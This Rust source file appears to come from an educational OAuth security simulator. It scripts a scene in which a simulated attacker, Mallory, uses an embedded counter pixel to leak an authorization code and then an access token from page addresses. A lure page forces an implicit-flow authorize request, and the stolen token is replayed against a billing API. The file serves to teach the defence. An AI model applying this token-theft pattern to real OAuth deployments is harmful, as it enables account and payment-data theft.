use crate::cast::browser::Browser;
use crate::cast::{
    self, ADA, APP, AUTH_HOST, AccessLog, Api, Auth, BILLING_API, MALLORY, MalloryCounter,
    MalloryLure, MallorySite, OauthApp, Person, SCOPES, redeem_stolen,
};
use crate::keys::Verifier;
use crate::scenes::browsing::{send, take};
use crate::scenes::ending::stopped_by;
use crate::scenes::scene::{Group, LEEWAY, Scene, TOKEN_LIFE};
use crate::sim::{Answer, BROWSER, Server, Trace, World};
use crate::validate::{authorize, callback, jwt, token};
use crate::wire::{Request, Url};
use crate::words::scene::{state_trusts, token_in_url as words};

pub const SCENE: Scene = Scene {
    id: "attacks/token-in-url",
    group: Group::Attacks,
    steps: 13,
    off: &["authorize.response-type", "jwt.denylist"],
    stopped_by: Some("authorize.response-type"),
    switches: &[TOKEN_LIFE, LEEWAY],
    boxes: &[
        authorize::check_ids,
        callback::check_ids,
        token::check_ids_for_code,
        jwt::check_ids,
    ],
    defences: &[],
    doors: &[
        "schemes/oauth-pkce",
        "attacks/xss-localstorage",
        "workbench/authorize",
    ],
    play,
    cast: || {
        vec![
            cast::mallory(words::mallory_role()),
            cast::adas_browser(),
            cast::app(),
            cast::auth(),
            cast::billing_api(),
        ]
    },
};

fn play(mut world: World) -> Trace {
    let leeway_s = world.setting(LEEWAY.name, LEEWAY.default);
    let token_life_s = world.setting(TOKEN_LIFE.name, TOKEN_LIFE.default);
    let mut auth = Auth::new(world.moment().random, token_life_s);
    let mut billing = Api::trusting(&auth.jwks(), leeway_s);
    let mut app = OauthApp::public().with_script(MalloryCounter::TAG);
    let mut log = AccessLog::default();
    let mut counter = MalloryCounter::default();
    let mut ada = Browser::default();

    // A code in an address.
    world.step_after(0);
    world.state(BILLING_API, state_trusts());
    auth.register(app.registration());
    auth.remember_consent(ADA, app.client_id(), SCOPES);
    let known = auth.signed_in_before(Person::Ada, &mut ada, &mut world.moment());
    world.state(auth.id(), known);
    let connect = ada.open(&OauthApp::connect_url(None), world.now_s());
    let mut began = send(&mut world, &mut app, OauthApp::HOST, connect);
    world.say(words::question());

    world.step_after(1);
    let to_auth = take(&mut world, &mut ada, began.as_mut());
    let mut granted = send(&mut world, &mut auth, AUTH_HOST, to_auth);
    world.say(words::granted(granted.as_ref()));

    world.step_after(1);
    let mut landed = land(&mut world, &mut ada, &mut app, &mut log, granted.as_mut());
    world.say(words::landed(landed.as_ref()));

    world.step_after(1);
    let exchange = app.exchange();
    let mut exchanged = exchange.map(|request| world.send(APP, &mut auth, &request));
    if let Some(answer) = &mut exchanged {
        world.reply(answer);
        let kept = app.keep(&answer.response);
        world.state(APP, kept);
    }
    world.say(words::exchanged(exchanged.as_ref()));

    world.step_after(1);
    if let Some(landed) = &mut landed
        && landed.let_in()
    {
        landed.response = app.landing_page();
    }
    let pixel = shown(&mut world, &mut ada, &mut counter, landed.as_mut());
    world.say(words::code_counted(pixel.as_ref()));

    world.step_after(2);
    let mut redeemed = counter
        .last("code")
        .map(|code| redeem_stolen(&code, app.client_id(), OauthApp::CALLBACK, None))
        .map(|request| world.send(MALLORY, &mut auth, &request));
    if let Some(answer) = &mut redeemed {
        world.reply(answer);
    }
    world.say(words::redeemed(redeemed.as_ref()));

    // A token in an address.
    world.step_after(60);
    let mut lure = MalloryLure::default();
    lure.lead_to(implicit(&app, &mut world));
    let kittens = ada.open(&MalloryLure::url(), world.now_s());
    let mut page = send(&mut world, &mut lure, MallorySite::HOST, kittens);
    world.say(words::lured());

    world.step_after(1);
    let to_auth = take(&mut world, &mut ada, page.as_mut());
    let mut granted = send(&mut world, &mut auth, AUTH_HOST, to_auth);
    world.say(words::implicit(granted.as_ref()));

    world.step_after(1);
    let mut landed = land(&mut world, &mut ada, &mut app, &mut log, granted.as_mut());
    world.say(words::behind_the_hash(landed.as_ref(), ada.address()));

    world.step_after(1);
    shown(&mut world, &mut ada, &mut counter, landed.as_mut());
    let stolen = counter.last("access_token");
    world.say(words::token_counted(stolen.as_deref()));

    // Mallory, at home.
    world.step_after(30);
    let mut attack = stolen
        .map(|token| Request::new("GET", Api::HOST, "/v1/charges").bearer(&token))
        .map(|call| world.send(MALLORY, &mut billing, &call));
    world.say(words::attack(attack.as_ref()));
    world.step_after(1);
    if let Some(answer) = &mut attack {
        world.reply(answer);
    }
    world.say(words::answered(attack.as_ref()));

    world.step_after(1);
    let got_in_before = redeemed.as_ref().is_some_and(Answer::let_in);
    let stopped_by = stopped_by(&[granted.as_ref(), attack.as_ref()]).filter(|_| !got_in_before);
    let lesson = words::carry_away(stopped_by, got_in_before);
    world.say(lesson.clone());
    world.end_attack_by(SCENE.id, stopped_by, lesson)
}

/// What Mallory's page has Ada's browser ask auth for, in the app's name. Nobody will look at the
/// challenge: it is there because auth wants one.
fn implicit(app: &OauthApp, world: &mut World) -> Url {
    let challenge = Verifier::generate(world.moment().random).challenge();
    Auth::url("/authorize").with_query(&[
        ("response_type", "token"),
        ("client_id", app.client_id()),
        ("redirect_uri", OauthApp::CALLBACK),
        ("scope", "charges:read"),
        ("code_challenge", &challenge.value),
        ("code_challenge_method", &challenge.method),
    ])
}

/// auth's redirect brings the browser to the app, which writes its log; the browser writes its own.
fn land(
    world: &mut World,
    ada: &mut Browser,
    app: &mut OauthApp,
    log: &mut AccessLog,
    granted: Option<&mut Answer>,
) -> Option<Answer> {
    let back = take(world, ada, granted).request()?;
    world.state(BROWSER, ada.history_note(words::history()));
    let landed = send(world, app, OauthApp::HOST, back)?;
    let written = log.write(&landed.request, &landed.response, world.now_s());
    world.state(APP, written);
    Some(landed)
}

/// The page comes to the screen, and the script on it, if there is one, reports where it stands.
fn shown(
    world: &mut World,
    ada: &mut Browser,
    counter: &mut MalloryCounter,
    page: Option<&mut Answer>,
) -> Option<Request> {
    let page = page.map(|page| {
        take(world, ada, Some(&mut *page));
        page
    });
    let runs = page.is_some_and(|page| page.response.body.contains(MalloryCounter::TAG));
    let here = ada.address().filter(|_| runs)?;
    let pixel = ada.load(&MalloryCounter::pixel(here), world.now_s());
    let _counted = world.send(BROWSER, counter, &pixel);
    Some(pixel)
}
